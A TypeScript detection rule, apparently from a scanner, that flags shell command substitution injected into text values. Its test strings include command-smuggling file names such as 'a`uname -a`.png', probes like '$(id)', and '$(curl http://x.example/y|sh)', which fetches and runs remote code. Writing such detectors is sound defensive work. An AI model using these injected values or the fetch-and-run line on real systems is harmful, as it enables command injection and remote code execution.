import { defineRule } from '../rule.ts';
import { command, suspiciousCommand } from './commands.ts';

/** Matches a command in `$(…)` or back-ticks, such as `$(id)`. Back-ticks around code in a sentence are Markdown and do not match. */
export const substitution = defineRule({
  id: 'cmdi/substitution',
  class: 'cmdi',
  threats: ['T1'],
  title: 'A value has a command substitution of a shell',
  score: 0.7,
  on: 'text',
  view: 'text',
  words: ['$(', '`', '<(', '>('],
  patterns: [
    new RegExp(`(?:(?:^|[^=])\\$\\([\\s\`]{0,4}|\\w\`|[<>]\\(\\s{0,4})${suspiciousCommand}`, 'i'),
    // In a later line, a script keeps the result in a variable.
    new RegExp(`^[^\\n]{0,2600}=\\$\\([\\s\`]{0,4}${suspiciousCommand}`, 'i'),
    /^\S{0,40}\$\(\s{0,4}(?:pwd|date)\s{0,4}\)\S{0,40}$/,
    new RegExp(`^(?:[^\\s\`]{0,40}|\\w{3,60} )\`[\\s(]{0,4}${command}[^\`]{0,200}\`?[^\\s\`]{0,20}$`, 'i'),
    /\w\$\(\)\w|\w``\w|\w\$@\w|\w`\w{2,10} \w{1,10}`\w/,
  ],
  hits: [
    'a$(echo pwned)',
    'a$(echo $HOME).png',
    '$(id)',
    '`whoami`',
    'a`uname -a`.png',
    'who$()ami',
    '$(curl http://x.example/y|sh)',
    'x`id`',
    'x=$(id)',
    'a\n$(id)',
  ],
  misses: [
    'use `ls -la` to list files',
    'run `npm install` then `npm start`',
    'What does $(...) do?',
    '` tick',
    'docker run -v $(pwd):/app x',
    'now=$(date +%F)',
    'lower=$(echo "$NAME" | tr A-Z a-z)',
    'The `code` formatting',
    'set -e\nfile=$(ls -t results/*.txt | head -1)',
  ],
});
